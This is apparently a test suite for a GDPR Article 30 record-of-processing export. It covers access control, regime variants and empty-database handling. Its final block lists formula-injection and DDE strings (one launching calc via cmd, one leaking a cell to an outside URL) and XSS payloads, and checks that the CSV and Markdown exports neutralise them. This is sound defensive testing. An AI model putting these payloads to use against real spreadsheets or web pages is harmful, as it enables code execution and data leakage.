import { tmpdir } from 'node:os';
import { parse } from 'csv-parse/sync';
import { runCli } from '../src/cli/cli';
import { ensureCountries } from '../src/country/country.reference';
import { applyManifest, parseManifest } from '../src/manifest/manifest.service';
import { authAs, startTestApp, type TestApp } from './harness';

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(() => app.close());

const download = (path: string, headers: Record<string, string> = {}) => fetch(`${app.url}${path}`, { headers });

describe('GET /ropa.csv and /ropa.md', () => {
  it.each(['/ropa.csv', '/ropa.md'])('answers 401 for %s without a token', async (path) => {
    const response = await download(path);
    expect(response.status).toBe(401);
    expect(response.headers.get('www-authenticate')).toBe('Bearer');
    expect(await response.json()).toEqual({ error: { code: 'UNAUTHENTICATED', message: `${path} needs a token: send Authorization: Bearer <token>` } });
  });

  it('answers 401 for a bad token', async () => {
    const response = await download('/ropa.csv', { authorization: 'Bearer not.a.jwt' });
    expect(response.status).toBe(401);
    expect(await response.json()).toEqual({ error: { code: 'UNAUTHENTICATED', message: 'Invalid token: the token is malformed' } });
  });

  it.each(['VIEWER', 'ENGINEER', 'SIGNUP_SERVICE'] as const)('answers 403 to a %s', async (role) => {
    const response = await download('/ropa.md', await authAs(role));
    expect(response.status).toBe(403);
    expect(((await response.json()) as { error: unknown }).error).toEqual({
      code: 'FORBIDDEN',
      message: `/ropa.md is for PRIVACY_OFFICER and AUDITOR; this token has ${role}`,
    });
  });

  it('serves the privacy officer a CSV of the seeded map that a CSV parser reads back: the Art. 30(1) table, and the controller in Markdown', async () => {
    const response = await download('/ropa.csv', await authAs('PRIVACY_OFFICER'));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    // The table alone: every row has its 14 columns, so a spreadsheet or pandas.read_csv skips nothing.
    const rows: string[][] = parse(await response.text(), { bom: true });
    expect(rows[0]).toEqual([
      'Activity', 'Purpose', 'Legal basis', 'Categories of data subjects', 'Categories of personal data',
      'Special categories (Art. 9) and condition', "Children's data", 'DPIA criteria (WP248)', 'Recipients',
      'Third-country transfers and safeguards', 'Retention', 'Security measures', 'Source in the privacy policy',
      'ASSUMED (not stated by the policy)',
    ]);
    const activities = rows.slice(1);
    expect(activities).toHaveLength(14);
    const markdown = await (await download('/ropa.md', await authAs('PRIVACY_OFFICER'))).text();
    expect(markdown).toContain('- **Controller:** PythonMaster, 123 Education Street, Tech City, TC 12345, United States, privacy@pythonmaster.com, +1 (555) 123-4567');
    // Art. 27: the controller is in the US and the policy names no representative.
    expect(markdown).toContain('- **Representative in the Union (Art. 27):** NOT RECORDED');
    // The policy names a "Privacy Officer", not a DPO designated under Art. 37.
    expect(markdown).toContain('- **Privacy contact (not a data protection officer designated under Art. 37):** Privacy Officer, privacy@pythonmaster.com');
    const row = (name: string) => activities.find((r) => r[0] === name)!;
    const OTHER_RECIPIENTS =
      'Acquirers in a business transfer: in a merger, acquisition or sale of assets, subject to the same privacy protections; ' +
      'Public authorities: where the law requires disclosure (legal process, government investigations)';
    const HOSTS = 'Processors: Amazon Web Services (Cloud hosting), Google Cloud (Cloud hosting)';
    const HOSTED_TRANSFERS =
      'US: Amazon Web Services, STANDARD_CONTRACTUAL_CLAUSES (SCC 2021/914 module 2); US: Google Cloud, STANDARD_CONTRACTUAL_CLAUSES (SCC 2021/914 module 2)';
    expect(row('Process payments').slice(0, 12)).toEqual([
      'Process payments',
      'Process payments and manage the account',
      'CONTRACT',
      'Customer',
      'Contact data; Financial data; Identity data',
      'none',
      'no',
      'none',
      `Processors: PayPal (Payment processing), Stripe (Payment processing); ${OTHER_RECIPIENTS}`,
      'US: PayPal, STANDARD_CONTRACTUAL_CLAUSES (SCC 2021/914 module 2); US: Stripe, STANDARD_CONTRACTUAL_CLAUSES (SCC 2021/914 module 2)',
      'Retained for 7 years for tax and accounting purposes.',
      'Access controls; Data minimisation; Encryption; Regular audits',
    ]);
    // Hosting serves every activity that stores data on it: certificates, research, fraud and tax records show it.
    for (const name of ['Issue certificates and credentials', 'Research to improve learning outcomes', 'Monitor and prevent fraud or abuse', 'Keep payment records for tax and accounting']) {
      expect([row(name)[8], row(name)[9]]).toEqual([`${HOSTS}; ${OTHER_RECIPIENTS}`, HOSTED_TRANSFERS]);
    }
    expect(row('Research to improve learning outcomes').slice(2, 11)).toEqual([
      'LEGITIMATE_INTERESTS: Improving our courses and developing new features and content.',
      'Student; Survey participant',
      'Contact data; Usage data',
      'none',
      'yes',
      'VULNERABLE_SUBJECTS',
      `${HOSTS}; ${OTHER_RECIPIENTS}`,
      HOSTED_TRANSFERS,
      'NOT RECORDED',
    ]);
    // Marketing cookies feed the advertising activity and its recipients.
    expect(row('Deliver relevant advertisements').slice(2, 10)).toEqual([
      'CONSENT', 'Website visitor', 'Technical data; Website usage', 'none', 'yes',
      'VULNERABLE_SUBJECTS, SYSTEMATIC_MONITORING, PROFILING; DPIA indicated: NOT RECORDED',
      // The partners are a recorded recipient now (an independent controller): listed once, by role, and their
      // transfer judged controller to controller (SCC module 1).
      `Independent controllers: Advertising partners (Advertising (marketing cookies)); ${OTHER_RECIPIENTS}`,
      'US: Advertising partners, STANDARD_CONTRACTUAL_CLAUSES (SCC 2021/914 module 1)',
    ]);
    // Intercom's own host receives what Intercom does: a sub-processor, its onward transfer processor to processor.
    expect([row('Customer support')[8], row('Customer support')[9]]).toEqual([
      `Processors: Intercom (Customer support), Zendesk (Customer support); Sub-processors: Amazon Web Services (for Intercom) (Hosting of Intercom's platform, engaged by Intercom); ${OTHER_RECIPIENTS}`,
      'US: Intercom, STANDARD_CONTRACTUAL_CLAUSES (SCC 2021/914 module 2); US: Zendesk, STANDARD_CONTRACTUAL_CLAUSES (SCC 2021/914 module 2); ' +
        'US: Amazon Web Services (for Intercom), STANDARD_CONTRACTUAL_CLAUSES (SCC 2021/914 module 3)',
    ]);
    // Assumed values are marked; a fact the policy states is not.
    expect(row('Marketing communications')[12]).toBe('How We Use Your Information (Communication, "with your consent"); Your Rights and Choices; Data Retention');
    expect(row('Marketing communications')[13]).toMatch(
      /^retention marketing-data: startsAt LAST_ACTIVITY reads "2 years of inactivity"\.; Mailchimp: legalName, headquarters, location, transfer mechanism and DPA link: the policy names the provider and its role only\. DPF: Mailchimp states/,
    );
    expect(row('Provide the learning platform')[13]).toMatch(/^activity: legalBasis: the policy lists four bases \(Legal Basis for Processing\) but does not map them to activities; CONTRACT, for account holders only/);
    // The legal obligation names its law (Art. 6(3)).
    expect(row('Keep payment records for tax and accounting')[2]).toBe(
      'LEGAL_OBLIGATION: Council Directive 2006/112/EC (VAT Directive), Art. 369k (records of the non-Union one-stop-shop scheme) (EU)',
    );
  });

  it('serves an auditor the Markdown record', async () => {
    const response = await download('/ropa.md', await authAs('AUDITOR'));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/markdown; charset=utf-8');
    const md = await response.text();
    expect(md.split('\n').slice(0, 5)).toEqual([
      '# Record of processing activities (GDPR Art. 30(1))',
      '',
      '- **Controller:** PythonMaster, 123 Education Street, Tech City, TC 12345, United States, privacy@pythonmaster.com, +1 (555) 123-4567',
      '- **Representative in the Union (Art. 27):** NOT RECORDED',
      '- **Privacy contact (not a data protection officer designated under Art. 37):** Privacy Officer, privacy@pythonmaster.com',
    ]);
    expect(md.split('\n').filter((line) => line.startsWith('| '))).toHaveLength(15);
  });

  it('gives the record under the UK GDPR or the FADP (?regime=), naming that representative and judging each transfer under it', async () => {
    const asOfficer = await authAs('PRIVACY_OFFICER');
    const uk = await download('/ropa.csv?regime=UK_GDPR', asOfficer);
    expect([uk.status, uk.headers.get('content-disposition')]).toEqual([200, 'attachment; filename="ropa-uk-gdpr.csv"']);
    // The CSV is the table alone; the regime's title and its representative head the Markdown form.
    const rows: string[][] = parse(await uk.text(), { bom: true });
    expect(rows[0][0]).toBe('Activity');
    const ukMarkdown = (await (await download('/ropa.md?regime=UK_GDPR', asOfficer)).text()).split('\n');
    expect(ukMarkdown[0]).toBe('# Record of processing activities (UK GDPR Art. 30(1))');
    expect(ukMarkdown).toContain('- **Representative in the United Kingdom (UK GDPR Art. 27):** NOT RECORDED');
    // PayPal records no UK safeguard; Stripe its UK Addendum: the same payments, different verdicts under each law.
    const transfers = (records: string[][]) => records.find((row) => row[0] === 'Process payments')![9];
    expect(transfers(rows)).toBe('US: PayPal, NO SAFEGUARD RECORDED; US: Stripe, UK_ADDENDUM (UK Addendum to SCC 2021/914 module 2)');
    const swiss = parse(await (await download('/ropa.csv?regime=SWISS_FADP', asOfficer)).text(), { bom: true });
    expect((await (await download('/ropa.md?regime=SWISS_FADP', asOfficer)).text()).split('\n')[0]).toBe('# Record of processing activities (FADP Art. 12)');
    expect(transfers(swiss)).toBe(
      'US: PayPal, NO SAFEGUARD RECORDED; US: Stripe, STANDARD_CONTRACTUAL_CLAUSES (SCC 2021/914 module 2 with the Swiss adaptations (FADP))',
    );
    const wrong = await download('/ropa.csv?regime=US', asOfficer);
    expect([wrong.status, await wrong.json()]).toEqual([
      400,
      { error: { code: 'BAD_USER_INPUT', message: 'regime: "US" is not a regime; use one of EU_GDPR, UK_GDPR, SWISS_FADP' } },
    ]);
  });
});

describe('the record of processing and the registers', () => {
  it('counts neither rights requests nor breaches', async () => {
    const asOfficer = await authAs('PRIVACY_OFFICER');
    const before = await Promise.all(['/ropa.csv', '/ropa.md'].map(async (path) => (await download(path, asOfficer)).text()));
    const request = await app.gql(
      `mutation ($input: RightsRequestInput!) { createRightsRequest(input: $input) { id } }`,
      { input: { right: 'access', receivedAt: '2026-01-05T10:00:00Z', jurisdiction: 'DE', subjectReference: 'user-1', collectionPoints: ['registration'], consents: [] } },
      asOfficer,
    );
    const breach = await app.gql(
      `mutation ($input: BreachInput!) { reportBreach(input: $input) { id } }`,
      { input: { awareAt: '2026-01-05T10:00:00Z', description: 'Laptop lost', processors: ['aws'], risk: 'RISK' } },
      asOfficer,
    );
    expect([request.errors, breach.errors]).toEqual([undefined, undefined]);
    const after = await Promise.all(['/ropa.csv', '/ropa.md'].map(async (path) => (await download(path, asOfficer)).text()));
    expect(after).toEqual(before);
  });
});

describe('the record of an empty database', () => {
  it('answers 404 with a message instead of an empty record', async () => {
    const empty = await startTestApp({ seed: false, reset: true });
    try {
      const response = await fetch(`${empty.url}/ropa.csv`, { headers: await authAs('PRIVACY_OFFICER') });
      expect(response.status).toBe(404);
      expect(await response.json()).toEqual({
        error: {
          code: 'NOT_FOUND',
          message:
            'the database holds no data map (no organization, no processing activities): apply one first, such as `npm run datamap -- apply seeds/pythonmaster.yaml`',
        },
      });
    } finally {
      await empty.close();
    }
  });
});

describe('hostile names in the exports', () => {
  const HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"y")',
    '@SUM(1)',
    '-2+3+cmd|\' /C calc\'!A0',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'one\rtwo | three\u2028four',
  ];
  const PROCESSOR = "+cmd|' /C calc'!A0";
  let hostile: TestApp;

  beforeAll(async () => {
    hostile = await startTestApp({ seed: false });
    const activities = HOSTILE.map((name, i) => ({
      key: `hostile-${i}`,
      name,
      purpose: 'payments',
      legalBasis: 'CONTRACT',
      dataCategories: ['contact'],
      subjectTypes: [],
      collectionPoints: [],
      securityMeasures: [],
    }));
    const manifest = {
      apiVersion: 'datamap/v1',
      purposes: [{ key: 'payments', name: 'Payments' }],
      dataCategories: [{ key: 'contact', name: 'Contact data' }],
      activities,
      processors: [
        { key: 'hostile', name: PROCESSOR, service: 'Hosting', headquarters: 'DE', status: 'ACTIVE', dataCategories: ['contact'],
          activities: activities.map((a) => a.key), locations: [{ country: 'DE' }] },
      ],
    };
    await ensureCountries(hostile.em());
    await applyManifest(hostile.em(), parseManifest(JSON.stringify(manifest)));
  });
  afterAll(() => hostile.close());

  async function cliRopa(format: 'csv' | 'md') {
    const out: string[] = [];
    const code = await runCli(['ropa', '--format', format], {
      out: (text) => out.push(text),
      err: () => undefined,
      env: {},
      cwd: tmpdir(),
      connect: async () => ({ ...hostile.db, close: async () => undefined }),
    });
    expect(code).toBe(0);
    // As the terminal shows it: the CLI prints the text without its last newline, and the console adds one.
    return `${out.join('\n')}\n`;
  }

  it('neutralises formula cells in /ropa.csv and in the CLI alike, and they read back as text', async () => {
    const response = await fetch(`${hostile.url}/ropa.csv`, { headers: await authAs('PRIVACY_OFFICER') });
    const served = await response.text();
    const printed = await cliRopa('csv');
    for (const csv of [served, printed]) {
      const rows: string[][] = parse(csv, { bom: true });
      const byName = new Map(rows.slice(1).map((row) => [row[0], row]));
      for (const name of HOSTILE) {
        const expected = /^[=+\-@\t\r]/.test(name) ? `'${name}` : name;
        expect(byName.get(expected)).toBeDefined();
        expect(byName.get(expected)![8]).toBe(`Processors: ${PROCESSOR} (Hosting)`);
      }
      // No cell of the whole file starts like a formula.
      expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)).map((cell) => JSON.stringify(cell))).toEqual([]);
    }
    // fetch's text() drops the byte-order mark that both carry.
    expect(printed).toBe(`\uFEFF${served}`);
  });

  it('escapes HTML and line breaks in /ropa.md, so every activity stays one table row', async () => {
    const response = await fetch(`${hostile.url}/ropa.md`, { headers: await authAs('AUDITOR') });
    const md = await response.text();
    expect(md).toBe(await cliRopa('md'));
    expect(md).not.toMatch(/<script|<img/);
    expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    const lines = md.split(/\r\n|[\n\r\u2028\u2029]/);
    const rows = lines.filter((line) => line.startsWith('|'));
    expect(rows).toHaveLength(2 + HOSTILE.length);
    const cellsOf = (row: string) => row.replace(/\\./g, '').split('|').length;
    expect(new Set(rows.map(cellsOf))).toEqual(new Set([16]));
    expect(rows.find((row) => row.includes('one<br>two'))).toContain('one<br>two \\| three<br>four');
  });
});
